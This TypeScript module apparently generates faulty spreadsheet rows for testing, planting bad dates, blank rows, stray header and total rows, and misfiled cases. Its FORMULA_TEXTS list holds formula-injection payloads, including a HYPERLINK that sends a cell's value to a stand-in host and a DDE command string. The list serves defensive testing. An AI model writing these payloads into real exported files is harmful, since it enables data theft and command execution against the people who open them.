import type { Dice } from "../../samples/random";
import type { MadeCase, PlannedRow } from "./model";
import { unitName } from "./places";

/** Texts that a spreadsheet would run if they were ever written as they are. */
export const FORMULA_TEXTS = ["=HYPERLINK(\"http://a.example/?x=\"&A2;\"Xem\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
/** Days that no calendar has. */
const UNREADABLE = ["31/02/2026", "45/07/2026", "30/13/2026"];

/** Something wrong in the rows of a file, and in which files of a hundred it is. */
interface RowTrouble {
  name: string;
  isIn: (file: number) => boolean;
  plant: (rows: PlannedRow[], dice: Dice, file: number) => void;
  /** Can be seen only where each row names its unit. */
  needsUnit?: true;
}

function inside(rows: readonly PlannedRow[], dice: Dice): number {
  return dice.between(2, rows.length - 3);
}

function insert(row: PlannedRow, rows: PlannedRow[], dice: Dice, times: number): void {
  for (let each = 0; each < times; each++) rows.splice(inside(rows, dice), 0, row);
}

/** Changes some of the cases. */
function change(rows: PlannedRow[], dice: Dice, times: number, changed: (shown: MadeCase, at: number) => PlannedRow): void {
  for (let each = 0; each < times; each++) {
    const at = inside(rows, dice);
    const row = rows[at];
    if (row.is === "case") rows[at] = changed(row.shown, each);
  }
}

const TROUBLES: readonly RowTrouble[] = [
  { name: "formulaTexts", isIn: (file) => file % 7 === 4, plant: (rows, dice) => change(rows, dice, 4, (shown, at) => ({ is: "case", shown: { ...shown, owner: FORMULA_TEXTS[at] } })) },
  { name: "unreadableDates", isIn: (file) => file % 4 === 1, plant: (rows, dice) => change(rows, dice, 3, (shown, at) => ({ is: "unreadable", shown, text: UNREADABLE[at] })) },
  { name: "strayCases", isIn: (file) => file % 40 === 0, plant: plantStrays, needsUnit: true },
  { name: "blankRows", isIn: (file) => file % 5 === 1, plant: (rows, dice) => insert({ is: "blank" }, rows, dice, 2) },
  { name: "repeatedHeader", isIn: (file) => file % 6 === 2, plant: (rows, dice) => insert({ is: "header" }, rows, dice, 2) },
  { name: "totalInside", isIn: (file) => file % 12 === 9, plant: (rows, dice) => insert({ is: "total" }, rows, dice, 1) },
  { name: "totalBelow", isIn: (file) => file % 6 === 0, plant: (rows) => rows.push({ is: "total" }) },
];

/** Some rows are of another unit, which keeps its own file: the case was entered in the wrong book. */
function plantStrays(rows: PlannedRow[], dice: Dice, file: number): void {
  const other = unitName(file + 1);
  change(rows, dice, 5, (shown) => ({ is: "case", shown: { ...shown, unit: other } }));
}

/** The rows of the nth file with what goes wrong in it; too few rows have no trouble. */
export function troubledRows(cases: readonly MadeCase[], dice: Dice, file: number, namesUnits: boolean): { rows: PlannedRow[]; trouble: string[] } {
  const rows = cases.map((shown): PlannedRow => ({ is: "case", shown }));
  const troubles = rows.length < 12 ? [] : TROUBLES.filter(({ isIn, needsUnit }) => isIn(file) && (namesUnits || !needsUnit));
  for (const { plant } of troubles) plant(rows, dice, file);
  return { rows, trouble: troubles.map(({ name }) => name) };
}
